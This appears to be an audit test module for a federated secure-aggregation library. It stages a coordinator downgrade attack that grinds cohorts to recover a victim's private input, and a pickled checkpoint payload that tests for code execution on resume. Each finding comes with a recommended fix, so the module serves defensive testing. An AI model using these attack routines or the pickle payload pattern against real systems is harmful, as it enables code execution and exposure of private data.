"""Attacks on how the networked deployment configures the protocol (securefed/runtime/netclient.py).

SEC-11: the holder builds its SecAggConfig from the coordinator's welcome message. The protocol's
downgrade checks (C1, SEC-10) compare the RoundStart against *that* config, so a coordinator that
announces a sparse SecAgg+ graph lowers the Shamir threshold t that protects every holder — and,
because the graph is seeded by the params hash it controls (cohort, model), it can grind the graph so
that two holders it has corrupted are exactly the target's share holders (Bell et al. CCS 2020 assume
a random graph the server cannot choose).
"""

from __future__ import annotations

import itertools
import pickle

import numpy as np

from securefed.audit.findings import MITIGATED, VULNERABLE, Finding
from securefed.audit.harness import CTX, Round, federation
from securefed.primitives import shamir
from securefed.primitives.keys import X25519KeyPair
from securefed.primitives.prg import accumulate_masks
from securefed.secagg import SecAggConfig, SecAggServer, decode
from securefed.secagg import common as cm
from securefed.secagg.messages import KIND_B, KIND_S

__all__ = ["welcome_downgrade", "holder_takes_config_from_welcome", "checkpoint_code_execution"]

MALICIOUS_WELCOME = {"secagg": {"ring_bits": 32, "threshold_fraction": 0.5, "neighbours": 2, "chunk_elements": 1 << 20}}


def holder_takes_config_from_welcome() -> bool:
    """True if a holder with the default policy would accept the malicious welcome (behavioural check
    of the floor in runtime/netclient.py, run on the very config the attack announces)."""
    from securefed.runtime.netclient import PolicyRefused, check_holder_policy

    cfg = SecAggConfig(**MALICIOUS_WELCOME["secagg"])
    try:
        check_holder_policy(cfg, {"cohort": list(range(1, 11)), "max_clients": 10}, floor=SecAggConfig())
    except PolicyRefused:
        return False
    return True


def welcome_downgrade(roster_size: int = 16, cohort_size: int = 10, length: int = 64) -> Finding:
    target, colluders = 1, (2, 3)
    cfg = SecAggConfig(**MALICIOUS_WELCOME["secagg"])  # exactly what NetClient._round does with the welcome
    fed = federation(roster_size, seed=5)
    ids, roster = fed
    rest = [i for i in ids if i not in (target, *colluders)]
    tries, cohort = 0, None
    for combo in itertools.combinations(rest, cohort_size - 3):  # grind the cohort until the graph suits us
        tries += 1
        c = sorted((target, *colluders, *combo))
        srv = SecAggServer(config=cfg, cohort=c, vector_length=length, round_index=0, session_context=CTX, roster=roster)
        if srv.graph.neighbours(target) == frozenset(colluders):
            cohort = c
            break
    ev = {"holder_config_from_welcome": holder_takes_config_from_welcome(), "welcome_secagg": MALICIOUS_WELCOME["secagg"],
          "cohorts_tried": tries}
    default_t = SecAggConfig().thresholds(cohort_size).threshold
    if cohort is None:  # the attack could not be staged: the verdict rests on the holder's own check alone
        ev["graph_found"] = False
        return Finding("SEC-11", "Coordinator downgrades the holders' secure-aggregation parameters",
                       VULNERABLE if ev["holder_config_from_welcome"] else MITIGATED,
                       "grinding failed", ev, ("SA-08", "TR-12", "SYS-11"))
    r = Round(cohort=cohort, config=cfg, federation_=fed, length=length, seed=5).steps(3)
    held = {j: r.clients[j]._held[target][KIND_S] for j in colluders}   # what the corrupted holders hand over
    y_target = decode(r.replies[2][target]).vector                      # the target's masked input, as received
    r.steps(2)                                                           # honest unmasking: x survives
    t = r.server.start.threshold
    b_shares = {}
    for j, data in r.replies[4].items():
        for k, kind, s in decode(data).shares:
            if k == target and kind == KIND_B:
                b_shares[j] = shamir.share_from_bytes(s)
    b = shamir.reconstruct(b_shares, threshold=t)
    s_key = X25519KeyPair.from_private_bytes(shamir.reconstruct(held, threshold=t))
    sid, rnd = r.server.sid, r.server.start.round_index
    keys = [(cm.self_mask_key(b, sid=sid, round_index=rnd, i=target), -1)]
    for j in sorted(r.server.graph.neighbours(target)):
        k = cm.pairwise_key(s_key.shared(r.server.adverts[j].s_public), sid=sid, round_index=rnd, i=target, j=j)
        keys.append((k, -cm.sigma(target, j)))
    x = np.array(y_target, copy=True)
    accumulate_masks(x, keys, r.server.ring, chunk_elements=cfg.chunk_elements)
    recovered = bool(np.array_equal(x, r.inputs[target]))
    ev.update({"graph_found": True, "cohort": cohort, "threshold_t_after_downgrade": t,
               "threshold_t_holder_default": default_t, "colluding_holders_used": len(colluders),
               "colluders_needed_by_default": default_t,
               "target_input_recovered_exactly": recovered, "vector_words": length})
    vulnerable = recovered and ev["holder_config_from_welcome"]
    return Finding(
        "SEC-11", "Coordinator downgrades the holders' secure-aggregation parameters (welcome message)",
        VULNERABLE if vulnerable else MITIGATED,
        ("`securefed client` takes ring bits, threshold fraction and the SecAgg+ degree from the coordinator's "
         "welcome with no floor of its own, so C1 checks the RoundStart against the attacker's numbers. "
         if vulnerable else
         "Holders now check the welcome against their own floor (runtime/netclient.py check_holder_policy): the "
         "malicious welcome is refused before anything is encoded. Had a holder accepted it: ")
        + f"announcing neighbours=2 cuts t from {default_t} to {t}; grinding the cohort ({tries} tries) put "
        f"the 2 corrupted holders on the target's share set, and coordinator + 2 holders recovered the target's "
        f"input exactly ({recovered}). The holders' default needs {default_t} colluders.",
        ev, ("SA-08", "SA-09", "TR-12", "SYS-11"),
        fix=("runtime/netclient.py: give the holder its own SecAggPolicy (CLI flags / holder config: "
             "min ring_bits, min threshold_fraction, neighbours None or >= a minimum degree, max clip; default = "
             "SecAggConfig() i.e. complete graph, f=0.5, k=32) and refuse the welcome (exit 2, clear message) when "
             "wl['secagg'] is weaker; also check man['max_clients'] == len(man['cohort']). For SecAgg+ graphs, seed "
             "the graph from holder-contributed randomness (commit-reveal) or a public beacon instead of the params "
             "hash the coordinator controls."))


class _Payload:
    """Unpickling this runs Path.write_text(marker, ...): a stand-in for any code an attacker wants run."""

    def __init__(self, marker) -> None:
        self.marker = marker

    def __reduce__(self):
        from pathlib import Path

        return (Path.write_text, (Path(self.marker), "code ran inside --resume"))


def checkpoint_code_execution() -> Finding:
    """An attacker who can write RUN_DIR/checkpoints/latest.pt gets code execution on `--resume`."""
    import tempfile
    from pathlib import Path
    from types import SimpleNamespace

    import torch

    import securefed
    from securefed.runtime.simulate import Simulation

    root = Path(securefed.__file__).parent
    sites = [f"{p.relative_to(root.parent)}:{n}" for p in sorted(root.rglob("*.py")) if "audit" not in p.parts
             for n, line in enumerate(p.read_text().splitlines(), 1)
             if ("torch.load(" in line and "weights_only=True" not in line) or "pickle.load" in line]
    with tempfile.TemporaryDirectory() as tmp:
        marker, ck = Path(tmp) / "executed", Path(tmp) / "latest.pt"
        torch.save({"version": 1, "next_round": _Payload(marker)}, ck)
        fake = SimpleNamespace(run_dir=SimpleNamespace(checkpoint_file=ck), dim=1,
                               cfg=SimpleNamespace(model=SimpleNamespace(preset="tiny")))
        refused_with = None
        try:
            Simulation._restore(fake)  # the real resume code path of `securefed simulate --resume`
        except pickle.UnpicklingError as e:  # the safe loader's refusal; anything else crashes the scenario
            refused_with = type(e).__name__
        executed = marker.exists()
        marker.unlink(missing_ok=True)
        try:
            torch.load(ck, weights_only=True)
            safe_loader_refuses = False
        except Exception:
            safe_loader_refuses = True
        safe_loader_ran_code = marker.exists()
    # mitigated only if the resume path refused the payload AND no pickle-capable load is left anywhere
    verdict = VULNERABLE if executed or refused_with is None or sites else MITIGATED
    ev = {"unsafe_load_sites": sites, "payload_executed_on_resume": executed, "resume_refused_with": refused_with,
          "weights_only_true_refuses_payload": safe_loader_refuses and not safe_loader_ran_code,
          "weights_only_true_loads_a_real_simulate_checkpoint": "checked by hand on a quick-profile run (all keys load)"}
    return Finding(
        "SEC-12", "Tampered checkpoint runs code at resume (pickle)", verdict,
        ("Checkpoints are loaded with full pickle before any check: whoever can write RUN_DIR/checkpoints/latest.pt "
         "(shared storage, a restored backup) runs arbitrary code as the coordinator on --resume, which defeats the "
         "ledger anchor and every privacy cap." if verdict == VULNERABLE else
         "A checkpoint carrying a pickled code payload was planted and `--resume` run through the real "
         "Simulation._restore path: the loader (torch.load weights_only=True) refused it and no code ran "
         f"(payload executed: {executed}; unsafe load sites left in securefed/: {len(sites)})."), ev, ("PV-08", "TR-10", "SYS-13"),
        fix=("runtime/simulate.py:_restore and runtime/netserver.py: torch.load(..., weights_only=True) (simulate's "
             "checkpoint already loads that way: only tensors, dicts, ints, strings); netclient's own state file: "
             "JSON instead of pickle. Optionally authenticate the checkpoint (HMAC with a key outside RUN_DIR)."))
